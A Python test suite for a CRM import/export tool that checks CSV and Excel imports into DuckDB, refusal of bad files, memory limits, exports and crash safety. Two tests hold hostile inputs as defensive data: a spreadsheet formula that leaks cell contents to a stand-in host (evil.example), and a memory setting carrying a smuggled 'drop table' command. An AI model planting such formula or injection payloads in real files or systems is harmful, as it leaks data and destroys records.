"""Imports and exports: the CRM samples into an empty store, re-imports that change nothing,
later exports that update, every kind of bad file refused with where and why and nothing
written, formula cells kept as text, an import killed halfway, and the pages on the result."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import json
import os
import signal
from pathlib import Path

import duckdb
import pytest
from openpyxl import Workbook

from conftest import PROJECT_ROOT, by, import_until_writing
from relay import cli, exporting, importing, layouts, store

SAMPLES = PROJECT_ROOT / "data" / "samples"
HUBSPOT = SAMPLES / "hubspot-deals.csv"
SALESFORCE = SAMPLES / "salesforce-deals.csv"
AS_OF = "2026-11-22"
# From the sample files, summed by hand (a spreadsheet and the csv module agree):
HUBSPOT_Q4_WON = 312_000.75  # 4 Closed Won rows closing in 2026-Q4
SALESFORCE_Q4_WON = 176_250.75
HUBSPOT_Q4_OPEN = 662_003.50  # 12 open rows closing in 2026-Q4
SALESFORCE_Q4_OPEN = 1_337_501.00
TABLES = ("people", "campaigns", "leads", "deals", "deal_history", "goals",
          "forecast_submissions", "plan_revisions", "stage_mappings")


def run(capsys, *args) -> tuple[int, str, str]:
    code = cli.main([str(arg) for arg in args])
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def fingerprint(path: Path) -> dict[str, str]:
    """A hash of every row of every data table: equal means nothing changed."""
    connection = duckdb.connect(str(path), read_only=True)
    try:
        return {table: hashlib.sha256(repr(sorted(map(repr, connection.execute(
            f"select * from {table}").fetchall()))).encode()).hexdigest()
            for table in TABLES}
    finally:
        connection.close()


def query(path: Path, text: str, params=None) -> list[tuple]:
    connection = duckdb.connect(str(path), read_only=True)
    try:
        return connection.execute(text, params or {}).fetchall()
    finally:
        connection.close()


def report(capsys, path: Path, view: str, *args) -> dict:
    code, out, err = run(capsys, "report", view, "--db", path, "--as-of", AS_OF, *args)
    assert code == 0, err
    return {key: figure["value"] for key, figure in json.loads(out)["figures"].items()}


def write_csv(path: Path, header: list[str], rows: list[list]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(header)
        writer.writerows(rows)
    return path


# ------------------------------------------------------------------ the CRM samples


def test_the_samples_import_into_an_empty_store_and_the_pages_show_them(capsys, empty_path):
    code, out, err = run(capsys, "import", HUBSPOT, "--table", "deals", "--preset", "hubspot",
                         "--db", empty_path)
    assert code == 0, err
    assert "36 rows: 36 new, 0 updated, 0 unchanged, 5 new people" in out
    code, out, err = run(capsys, "import", SALESFORCE, "--table", "deals", "--preset",
                         "salesforce", "--db", empty_path)
    assert code == 0, err
    assert "40 rows: 40 new, 0 updated, 0 unchanged, 5 new people" in out

    figures = report(capsys, empty_path, "overview")
    assert figures["closed_won"] == pytest.approx(HUBSPOT_Q4_WON + SALESFORCE_Q4_WON)
    assert figures["open_pipeline"] == pytest.approx(HUBSPOT_Q4_OPEN + SALESFORCE_Q4_OPEN)
    # US dates in the Salesforce file: 3/25/2027 is the 25th of March.
    assert query(empty_path, "select close_date from deals where deal_id = "
                             "'0065g00000YlF5YAAV'") == [(dt.date(2027, 3, 25),)]
    # The stage mapping and the file's own forecast category.
    assert query(empty_path, "select status, forecast_category from deals "
                             "where deal_id = '0065g00000BOX6mAAH'") == [("lost", "omitted")]
    # Owners became people of team sales, once each; deals took the file's region.
    assert query(empty_path, "select count(*), count(distinct name) from people "
                             "where team = 'sales'") == [(10, 10)]
    assert query(empty_path, "select region from deals where deal_id = '18688761558'") == [
        ("EMEA",)]
    runs = query(empty_path, "select file_name, table_name, layout, inserted, outcome "
                             "from import_runs order by import_id")
    assert runs == [("hubspot-deals.csv", "deals", "hubspot", 36, "imported"),
                    ("salesforce-deals.csv", "deals", "salesforce", 40, "imported")]
    assert query(empty_path, "select action, entity from audit_log") == [
        ("import", "deals"), ("import", "deals")]


def test_the_layout_is_recognised_from_the_headers(capsys, empty_path):
    code, out, _ = run(capsys, "import", SALESFORCE, "--table", "deals", "--db", empty_path,
                       "--dry-run")
    assert code == 0
    assert out.startswith("Dry run, nothing written. salesforce-deals.csv → deals: 40 rows")
    assert query(empty_path, "select count(*) from deals") == [(0,)]
    assert query(empty_path, "select layout from import_runs") == []


def test_importing_the_same_file_again_changes_nothing(capsys, empty_path):
    assert run(capsys, "import", HUBSPOT, "--table", "deals", "--db", empty_path)[0] == 0
    before = fingerprint(empty_path)
    code, out, _ = run(capsys, "import", HUBSPOT, "--table", "deals", "--db", empty_path)
    assert code == 0
    assert "0 new, 0 updated, 36 unchanged" in out and "new people" not in out
    assert fingerprint(empty_path) == before


def test_a_later_export_updates_what_changed_and_keeps_the_deal_history(
        capsys, empty_path, tmp_path):
    assert run(capsys, "import", HUBSPOT, "--table", "deals", "--db", empty_path)[0] == 0
    rows = list(csv.reader(HUBSPOT.open(encoding="utf-8")))
    header, body = rows[0], rows[1:]
    stage, amount, record = (header.index(name) for name in ("Deal Stage", "Amount",
                                                               "Record ID"))
    target = next(row for row in body if row[stage] == "Contract Sent")
    target[stage], target[amount] = "Closed Won", "99000"
    later = write_csv(tmp_path / "hubspot-later.csv", header, body)
    code, out, _ = run(capsys, "import", later, "--table", "deals", "--db", empty_path)
    assert code == 0 and "0 new, 1 updated, 35 unchanged" in out
    deal = target[record]
    assert query(empty_path, "select amount, status, forecast_category from deals where "
                             "deal_id = $d", {"d": deal}) == [(99000, "won", "closed")]
    # Its old state stays in the history (from creation), its new one from the import on.
    history = query(empty_path, "select status, forecast_category, amount from deal_history "
                                "where deal_id = $d order by changed_at", {"d": deal})
    assert history[0][:2] == ("open", "commit") and history[-1] == ("won", "closed", 99000)


# ------------------------------------------------------------------ refused files


def test_a_file_with_errors_is_refused_with_a_precise_report_and_nothing_written(
        capsys, empty_path, tmp_path):
    header = ["Record ID", "Deal Stage", "Close Date", "Deal owner", "Amount", "Create Date"]
    bad = write_csv(tmp_path / "bad.csv", header, [
        ["1", "Closed Won", "2026-10-02", "Ann", "100", "2026-09-01"],
        ["2", "Closed Won", "2026-13-45", "Ann", "100", "2026-09-01"],   # line 3: bad date
        ["3", "Contract Sent", "2026-12-01", "Ann", "-5", "2026-09-01"],  # line 4: negative
        ["4", "Maybe Later", "2026-12-01", "Ann", "10", "2026-09-01"],    # line 5: stage
        ["1", "Contract Sent", "2026-12-01", "Ann", "10", "2026-09-01"],  # line 6: duplicate
        ["6", "Contract Sent", "2026-12-01", "Ann", "1,000", ""],         # line 7: two
    ])
    before = fingerprint(empty_path)
    code, out, err = run(capsys, "import", bad, "--table", "deals", "--preset", "hubspot",
                         "--db", empty_path)
    assert code == 1 and out == ""
    assert "bad.csv: 6 problem(s); nothing was written." in err
    lines = err.splitlines()
    for expected in (
            "bad.csv, line 3, column 'Close Date': '2026-13-45': not a date (expected "
            "YYYY-MM-DD",
            "bad.csv, line 4, column 'Amount': '-5': negative: must be zero or more",
            "bad.csv, line 5, column 'Deal Stage': 'Maybe Later': unknown stage: add it to "
            "the stage mapping (the Data page, or `python -m relay stages set`)",
            "bad.csv, line 6, column 'Record ID': '1': duplicate ID: also on line 2",
            # One amount, "1,000": 1000 or 1.000? The column cannot say, so it is refused.
            "bad.csv, column 'Amount': every amount like '1,000' reads two ways: 1000 with "
            "a thousands separator, or with a decimal comma",
            "bad.csv, line 7, column 'Create Date': missing: every row needs a value here"):
        assert any(line.startswith(expected) for line in lines), expected
    assert fingerprint(empty_path) == before
    assert query(empty_path, "select outcome, problems, inserted from import_runs") == [
        ("refused", 6, 0)]


def test_rows_with_too_many_or_too_few_values_are_named_by_line(capsys, empty_path, tmp_path):
    ragged = tmp_path / "ragged.csv"
    ragged.write_text("person_id,name,team\nP1,Ann,sales\nP2,Bob,sales,extra\nP3,Cy\n",
                      encoding="utf-8")
    code, _, err = run(capsys, "import", ragged, "--table", "people", "--db", empty_path)
    assert code == 1
    assert "ragged.csv, line 3: more values than the header has columns" in err
    assert "ragged.csv, line 4, column 'team': fewer values than the header has columns" in err
    assert query(empty_path, "select count(*) from people") == [(0,)]


@pytest.mark.parametrize("name, content, message", [
    ("empty.csv", b"", "the file is empty"),
    ("header.csv", b"person_id,name,team\n", "the file has a header but no rows"),
    ("binary.csv", b"\x7fELF\x02\x01\x01\x00\x00\x00" * 50,
     "the file holds binary data (a zero byte at byte 8)"),
    ("workbook.csv", b"PK\x03\x04" + b"\x00" * 60,
     "this is a zip archive or an Excel workbook, not a CSV file"),
    ("latin1.csv", "person_id,name,team\nP1,Ren\xe9e,sales\n".encode("latin-1"),
     "line 2: not UTF-8 text (byte 0xE9)"),
    ("people.pdf", b"%PDF-1.7", ".pdf files cannot be imported"),
])
def test_a_file_that_is_not_a_table_is_refused_and_says_why(
        capsys, empty_path, tmp_path, name, content, message):
    path = tmp_path / name
    path.write_bytes(content)
    code, _, err = run(capsys, "import", path, "--table", "people", "--db", empty_path)
    assert code == 1
    assert message in err
    assert query(empty_path, "select count(*) from people") == [(0,)]


def _refused_unchanged(capsys, store_path, path) -> str:
    """Import `path` as people: it must be refused, with the store as it was."""
    before = fingerprint(store_path)
    code, _, err = run(capsys, "import", path, "--table", "people", "--db", store_path)
    assert code == 1
    assert fingerprint(store_path) == before
    assert str(path.parent) not in err  # never the server's path, only the file's name
    return err


def test_an_unterminated_quote_is_named_by_line_without_the_server_path(
        capsys, empty_path, tmp_path):
    path = tmp_path / "people.csv"
    path.write_bytes(b'person_id,name,team\nP1,Ann,sales\nP2,"Bob,sales\nP3,Cy,sales\n')
    err = _refused_unchanged(capsys, empty_path, path)
    assert "people.csv, line 3: a quoted value that is never closed" in err
    assert "sniffing" not in err
    # Closed, then more text: the line it opened on.
    path.write_bytes(b'person_id,name,team\nP1,Ann,sales\nP2,"Bob" Jr,sales\n')
    err = _refused_unchanged(capsys, empty_path, path)
    assert "people.csv, line 3: a quoted value that is closed and then followed by more " \
           "text on line 3" in err


def test_an_unterminated_quote_past_duckdbs_sample_is_named_by_line(
        capsys, empty_path, tmp_path):
    # Beyond the rows DuckDB samples, the reader rejects the line instead of the file.
    rows = b"".join(b"P%d,Name %d,sales\n" % (number, number) for number in range(1, 30_001))
    path = tmp_path / "late.csv"
    path.write_bytes(b"person_id,name,team\n" + rows + b'P0,"Bob,sales\n')
    err = _refused_unchanged(capsys, empty_path, path)
    assert "late.csv, line 30002, column 'name': a quoted value that is never closed" in err


@pytest.mark.parametrize("ending", [b"\n", b"\r\n"])
def test_a_bare_cr_inside_quoted_values_and_headers_is_read_as_text(
        capsys, empty_path, tmp_path, ending):
    path = tmp_path / "cr.csv"
    path.write_bytes(ending.join([b'person_id,"name\r",team', b'P1,"Ann\rSmith",sales',
                                  b'P2,"Bob\r",sales', b""]))
    code, _, err = run(capsys, "import", path, "--table", "people", "--db", empty_path)
    assert code == 0, err
    assert query(empty_path, "select person_id, name from people order by 1") == [
        ("P1", "Ann\rSmith"), ("P2", "Bob\r")]


def test_a_zero_byte_after_the_first_64_kb_is_refused_with_its_line(
        capsys, empty_path, tmp_path):
    rows = b"".join(b"P%d,Name %d,sales\n" % (number, number) for number in range(1, 8_001))
    assert len(rows) > 64 * 1024
    path = tmp_path / "nul.csv"
    path.write_bytes(b"person_id,name,team\n" + rows + b"P0,Bad\x00Name,sales\n")
    err = _refused_unchanged(capsys, empty_path, path)
    assert "nul.csv, line 8002: a zero byte (NUL) in the text" in err
    # A byte that is not UTF-8 before it is named first, by its own line.
    path.write_bytes(b"person_id,name,team\n" + rows + b"P9,Ren\xe9e,sales\nP0,B\x00,sales\n")
    assert "nul.csv, line 8002: not UTF-8 text (byte 0xE9)" in _refused_unchanged(
        capsys, empty_path, path)


def _memory_limit(connection) -> str:
    return connection.execute("select current_setting('memory_limit')").fetchall()[0][0]


def test_an_import_spills_under_its_memory_limit_and_gives_the_limit_back(
        empty_path, tmp_path, monkeypatch):
    """200,000 leads make temporary tables far larger than a 40 MB limit: DuckDB must spill
    them to the store's .tmp folder, not fail; the connection's own limit is back after."""
    monkeypatch.setenv(store.IMPORT_MEMORY_ENV, "40MB")
    leads = tmp_path / "leads.csv"
    with leads.open("w", encoding="utf-8") as handle:
        handle.write("lead_id,source,region,segment,created_at,stage\n")
        for number in range(200_000):
            handle.write(f"L{number:07d},Webinar,NA,SMB,2026-07-01 10:00:00,inquiry\n")
    connection = store.open_store(empty_path)
    before = _memory_limit(connection)
    seen = []
    real_check = importing.check

    def checking(cursor, *args):
        seen.append(_memory_limit(cursor))
        return real_check(cursor, *args)

    monkeypatch.setattr(importing, "check", checking)
    outcome = by("ann.admin", importing.run, connection, leads, "leads")
    assert outcome.written and outcome.preview.inserted == 200_000
    assert seen == ["38.1 MiB"]  # 40 MB as DuckDB shows it
    assert _memory_limit(connection) == before
    assert connection.execute("select count(*) from leads").fetchall() == [(200_000,)]
    connection.close()


def test_a_lower_memory_limit_already_set_is_kept(empty_path, monkeypatch):
    monkeypatch.setenv(store.IMPORT_MEMORY_ENV, "2GB")
    connection = store.open_store(empty_path)
    connection.execute("set memory_limit = '500MB'")
    with store.bounded_memory(connection.cursor()) as limit:
        assert _memory_limit(connection) == "476.8 MiB" and limit == "476.8 MiB"
    monkeypatch.setenv(store.IMPORT_MEMORY_ENV, "100MB; drop table leads")
    with pytest.raises(store.StoreError, match="not a memory size"):
        with store.bounded_memory(connection.cursor()):
            pass
    assert _memory_limit(connection) == "476.8 MiB"
    connection.close()


def test_the_default_import_memory_limit_is_a_quarter_of_the_machine_at_most_1_gib(
        monkeypatch):
    monkeypatch.delenv(store.IMPORT_MEMORY_ENV, raising=False)
    pages = {"SC_PAGE_SIZE": 4096}
    monkeypatch.setattr(store.os, "sysconf", lambda name: pages.get(name, 0))
    pages["SC_PHYS_PAGES"] = 16 * 2**30 // 4096  # 16 GiB
    assert store.import_memory_limit() == "1024MB"
    pages["SC_PHYS_PAGES"] = 2 * 2**30 // 4096  # 2 GiB
    assert store.import_memory_limit() == "512MB"
    pages["SC_PHYS_PAGES"] = 2**29 // 4096  # 512 MiB: never below 256 MB
    assert store.import_memory_limit() == "256MB"


def test_a_2_gb_file_is_refused_before_it_is_read(capsys, empty_path, tmp_path):
    huge = tmp_path / "huge.csv"
    with huge.open("wb") as handle:  # sparse: takes no disk space
        handle.write(b"person_id,name,team\n")
        handle.truncate(2 * 2**30)
    code, _, err = run(capsys, "import", huge, "--table", "people", "--db", empty_path)
    assert code == 1
    assert "the file is 2.0 GiB; an import takes at most 1 GiB: split it" in err


def test_usage_errors_exit_2(capsys, empty_path, tmp_path):
    code, _, err = run(capsys, "import", tmp_path / "nope.csv", "--table", "deals", "--db",
                       empty_path)
    assert code == 2 and "no such file" in err
    code, _, err = run(capsys, "import", HUBSPOT, "--table", "deals", "--preset", "pipedrive",
                       "--db", empty_path)
    assert code == 2 and "no layout named 'pipedrive' for deals" in err
    code, _, err = run(capsys, "import", HUBSPOT, "--table", "people", "--preset", "hubspot",
                       "--db", empty_path)
    assert code == 2 and "the layout 'hubspot' is for deals, not people" in err
    with pytest.raises(SystemExit) as exit_code:
        cli.main(["import", str(HUBSPOT), "--table", "opportunities"])
    assert exit_code.value.code == 2


def test_missing_columns_name_the_headers_the_layout_looks_for(capsys, empty_path, tmp_path):
    path = write_csv(tmp_path / "partial.csv", ["Record ID", "Amount"], [["1", "5"]])
    code, _, err = run(capsys, "import", path, "--table", "deals", "--preset", "hubspot",
                       "--db", empty_path)
    assert code == 1
    assert ("no column for created_at (headed 'Create Date'); close_date (headed 'Close "
            "Date'); crm_stage (or both status and forecast_category)") in err


# ------------------------------------------------------------------ each table


def test_people_campaigns_leads_goals_and_submissions_in_the_stores_own_columns(
        capsys, fixture_path, tmp_path):
    people = write_csv(tmp_path / "people.csv",
                       ["person_id", "name", "email", "team", "manager_id"], [
                           ["P9", "Nia New", "nia@example.com", "sales", "mia@example.com"],
                           ["P2", "Ann Rep", "ann@example.com", "sales", "P1"],  # unchanged
                           ["P10", "Ola Other", "", "Marketing", "P9"],  # manager in the file
                       ])
    code, out, err = run(capsys, "import", people, "--table", "people", "--db", fixture_path)
    assert code == 0, err
    assert "3 rows: 2 new, 0 updated, 1 unchanged" in out
    # Only the file's columns are compared and written: P2's title and region stay.
    assert query(fixture_path, "select manager_id, title, region from people where "
                               "person_id in ('P9', 'P2', 'P10') order by person_id") == [
        ("P9", None, None), ("P1", "Account Executive", "NA"), ("P1", None, None)]

    goals_file = write_csv(tmp_path / "goals.csv",
                           ["quarter", "metric", "region", "segment", "target"], [
                               ["2026-Q3", "revenue", "", "", "250000"],  # was 200,000
                               ["2027-Q1", "mqls", "EMEA", "", "400"],
                           ])
    code, out, err = run(capsys, "import", goals_file, "--table", "goals", "--db",
                         fixture_path)
    assert code == 0, err
    assert "2 rows: 1 new, 1 updated, 0 unchanged" in out
    assert query(fixture_path, "select target, version, owner_team from goals where "
                               "quarter = '2026-Q3' and metric = 'revenue' and region is null "
                               "and segment is null") == [(250_000, 2, "shared")]
    assert query(fixture_path, "select owner_team, version from goals where "
                               "quarter = '2027-Q1'") == [("marketing", 1)]
    # A sign-off given before no longer covers the changed quarter.
    assert query(fixture_path, "select revision > 0 from plan_revisions where "
                               "quarter = '2026-Q3'") == [(True,)]

    leads = write_csv(tmp_path / "leads.csv",
                      ["lead_id", "campaign_id", "created_at", "stage", "mql_at", "owner_id"], [
                          ["L90", "C1", "2026-11-02 09:15", "mql", "2026-11-03 10:00",
                           "Ann Rep"],
                          ["L91", "C404", "2026-11-02", "inquiry", "", ""],
                      ])
    code, _, err = run(capsys, "import", leads, "--table", "leads", "--db", fixture_path)
    assert code == 1
    assert ("leads.csv, line 3, column 'campaign_id': 'C404': no campaign with this ID: "
            "import the campaigns first") in err

    submissions = write_csv(tmp_path / "calls.csv",
                            ["quarter", "person_id", "submitted_at", "commit_amount",
                             "best_case_amount"], [
                                ["2026-Q4", "ann@example.com", "2026-11-20 09:00", "50000",
                                 "40000"],
                                ["2026-Q4", "Zed Unknown", "2026-11-20 09:00", "1", "2"],
                            ])
    code, _, err = run(capsys, "import", submissions, "--table", "forecast_submissions",
                       "--db", fixture_path)
    assert code == 1
    assert "line 2, column 'best_case_amount': best case is below commit" in err
    assert "line 3, column 'person_id': 'Zed Unknown': no such person" in err


def test_a_name_two_people_share_must_be_given_as_an_email(capsys, fixture_path, tmp_path):
    connection = store.open_store(fixture_path)
    connection.execute("insert into people (person_id, name, email, team) values "
                       "('P77', 'Ann Rep', 'ann.other@example.com', 'sales')")
    connection.close()
    deals = write_csv(tmp_path / "deals.csv", ["deal_id", "owner_id", "amount", "status",
                                               "forecast_category", "created_at",
                                               "close_date"], [
        ["D90", "Ann Rep", "10", "open", "commit", "2026-11-01", "2026-12-01"],
        ["D91", "ann.other@example.com", "10", "open", "commit", "2026-11-01", "2026-12-01"],
    ])
    code, _, err = run(capsys, "import", deals, "--table", "deals", "--db", fixture_path)
    assert code == 1
    assert ("line 2, column 'owner_id': 'Ann Rep': matches more than one person by name: "
            "use their person_id or email") in err
    assert "line 3" not in err


def test_an_excel_workbook_imports_like_a_csv(capsys, empty_path, tmp_path):
    book = Workbook()
    sheet = book.active
    sheet.append(["campaign_id", "name", "channel", "status", "start_date", "end_date",
                  "budget", "owner_id"])
    sheet.append(["C1", "Spring webinar", "Webinar", "Planned", dt.datetime(2027, 3, 2),
                  dt.datetime(2027, 3, 2), 5000, "Max Marketer"])
    sheet.append(["C2", "Summit", "Events", "live", "2026-11-20", "2026-11-21", 12000.5,
                  "Max Marketer"])
    book.save(tmp_path / "campaigns.xlsx")
    code, out, err = run(capsys, "import", tmp_path / "campaigns.xlsx", "--table",
                         "campaigns", "--db", empty_path)
    assert code == 0, err
    assert "2 rows: 2 new" in out and "1 new people" in out
    assert query(empty_path, "select campaign_id, status, start_date, budget, p.team "
                             "from campaigns join people p on p.person_id = owner_id "
                             "order by campaign_id") == [
        ("C1", "planned", dt.date(2027, 3, 2), 5000, "marketing"),
        ("C2", "live", dt.date(2026, 11, 20), 12000.5, "marketing")]


# ------------------------------------------------------------------ formulas and exports


def test_a_formula_cell_is_stored_as_text_and_exported_so_it_does_not_run(
        capsys, empty_path, tmp_path):
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    deals = write_csv(tmp_path / "deals.csv", ["deal_id", "account", "amount", "status",
                                               "forecast_category", "created_at",
                                               "close_date"], [
        ["D1", formula, "10", "open", "commit", "2026-11-01", "2026-12-01"],
        ["D2", "-2+3", "10", "open", "commit", "2026-11-01", "2026-12-01"],
    ])
    assert run(capsys, "import", deals, "--table", "deals", "--db", empty_path)[0] == 0
    assert query(empty_path, "select account from deals order by deal_id") == [
        (formula,), ("-2+3",)]
    code, out, _ = run(capsys, "export", "--table", "deals", "--db", empty_path)
    assert code == 0
    exported = {row["deal_id"]: row for row in csv.DictReader(io.StringIO(out))}
    assert exported["D1"]["account"] == "'" + formula
    assert exported["D2"]["account"] == "'-2+3"
    assert exported["D1"]["amount"] == "10.00"  # numbers are not touched
    parquet = tmp_path / "deals.parquet"
    code, _, _ = run(capsys, "export", "--table", "deals", "--format", "parquet",
                     "--output", parquet, "--db", empty_path)
    assert code == 0
    assert duckdb.sql(f"select account from '{parquet}' order by deal_id").fetchall() == [
        (formula,), ("-2+3",)]


def test_an_export_imports_back_into_an_empty_store_unchanged(capsys, fixture_path, tmp_path,
                                                              new_store):
    fresh = new_store(tmp_path / "fresh.duckdb")
    for table in ("people", "campaigns", "leads", "deals", "goals", "forecast_submissions"):
        output = tmp_path / f"{table}.csv"
        assert run(capsys, "export", "--table", table, "--output", output, "--db",
                   fixture_path)[0] == 0
        code, _, err = run(capsys, "import", output, "--table", table, "--db", fresh)
        assert code == 0, err
    columns = {"people": "*", "campaigns": "campaign_id, name, status, start_date, budget",
               "leads": "*", "deals": "*", "forecast_submissions": "*",
               "goals": "quarter, metric, region, segment, target, owner_team"}
    for table, selected in columns.items():
        text = f"select {selected} from {table} order by all"
        assert query(fresh, text) == query(fixture_path, text), table


def test_a_backup_is_a_store_that_opens(capsys, fixture_path, tmp_path):
    output = tmp_path / "backup.duckdb"
    code, out, _ = run(capsys, "backup", "--output", output, "--db", fixture_path)
    assert code == 0 and "Backed up" in out
    assert fingerprint(output) == fingerprint(fixture_path)
    opened = store.open_store(output, read_only=True)
    assert opened.execute("select count(*) from deal_timeline").fetchall()[0][0] > 0
    opened.close()
    code, _, err = run(capsys, "backup", "--output", output, "--db", fixture_path)
    assert code == 2 and "already exists" in err


def test_unknown_export_table_is_a_usage_error(capsys, fixture_path):
    with pytest.raises(SystemExit):
        cli.main(["export", "--table", "secrets", "--db", str(fixture_path)])
    with pytest.raises(exporting.ExportError):
        exporting.export_table(duckdb.connect(), "secrets", "csv", Path("x.csv"))


# ------------------------------------------------------------------ mappings


def test_a_saved_mapping_is_reused_by_name(capsys, empty_path, tmp_path):
    path = write_csv(tmp_path / "pipedrive.csv",
                     ["Deal ID", "Value", "Won/Lost", "Category", "Added", "Expected close",
                      "Owner"], [["7", "1200", "open", "commit", "02.11.2026", "15.12.2026",
                                  "Ann"]])
    connection = store.open_store(empty_path)
    by("planner@example.com", layouts.save_mapping, connection, "pipedrive", "deals", {
        "deal_id": "Deal ID", "amount": "Value", "status": "Won/Lost",
        "forecast_category": "Category", "created_at": "Added", "close_date": "Expected close",
        "owner_id": "Owner"}, "eu")
    with pytest.raises(layouts.LayoutError, match="built-in"):
        by("x", layouts.save_mapping, connection, "hubspot", "deals", {}, "iso")
    connection.close()
    code, out, err = run(capsys, "import", path, "--table", "deals", "--preset", "pipedrive",
                         "--db", empty_path)
    assert code == 0, err
    assert query(empty_path, "select created_at, close_date from deals") == [
        (dt.datetime(2026, 11, 2), dt.date(2026, 12, 15))]


def test_the_stage_mapping_is_edited_as_a_whole_and_never_over_someone_else(fixture_path):
    connection = store.open_store(fixture_path)
    seen = layouts.stage_mapping(connection.cursor())
    rows = [{key: row[key] for key in ("label", "status", "forecast_category")}
            for row in seen] + [{"label": "Verbal Yes", "status": "open",
                                 "forecast_category": "commit"}]
    assert by("ops@example.com", layouts.save_stage_mapping, connection, rows, seen) == 16
    with pytest.raises(layouts.StageMappingConflict):
        by("late@example.com", layouts.save_stage_mapping, connection, rows, seen)
    with pytest.raises(layouts.LayoutError, match="status must be one of"):
        by("x", layouts.save_stage_mapping, connection,
           [{"label": "X", "status": "maybe", "forecast_category": "commit"}],
           layouts.stage_mapping(connection.cursor()))
    assert connection.execute("select status from stage_mappings where stage = "
                              "'verbal yes'").fetchall() == [("open",)]
    assert connection.execute("select actor from audit_log where action = "
                              "'stage_mapping.save'").fetchall() == [("ops@example.com",)]
    connection.close()


# ------------------------------------------------------------------ killed halfway


def test_an_import_killed_halfway_leaves_the_store_exactly_as_before(fixture_path, tmp_path):
    leads = tmp_path / "leads.csv"
    with leads.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["lead_id", "source", "region", "segment", "created_at", "stage",
                         "mql_at", "owner_id"])
        for number in range(400_000):
            writer.writerow([f"K{number}", "Web", "NA", "SMB",
                             f"2026-{number % 12 + 1:02d}-{number % 28 + 1:02d} 10:00", "mql",
                             f"2026-{number % 12 + 1:02d}-{number % 28 + 1:02d} 11:00", "P2"])
    before = fingerprint(fixture_path)
    process = import_until_writing(fixture_path, leads, "leads")
    assert process.poll() is None, "the import finished before it could be killed"
    os.kill(process.pid, signal.SIGKILL)
    process.wait()
    assert process.returncode == -signal.SIGKILL
    assert fingerprint(fixture_path) == before
    assert query(fixture_path, "select count(*) from import_runs") == [(0,)]
    # ... and the store still takes the same import whole.
    connection = store.open_store(fixture_path)
    outcome = by("test", importing.run, connection, leads, "leads")
    connection.close()
    assert outcome.written and outcome.preview.inserted == 400_000
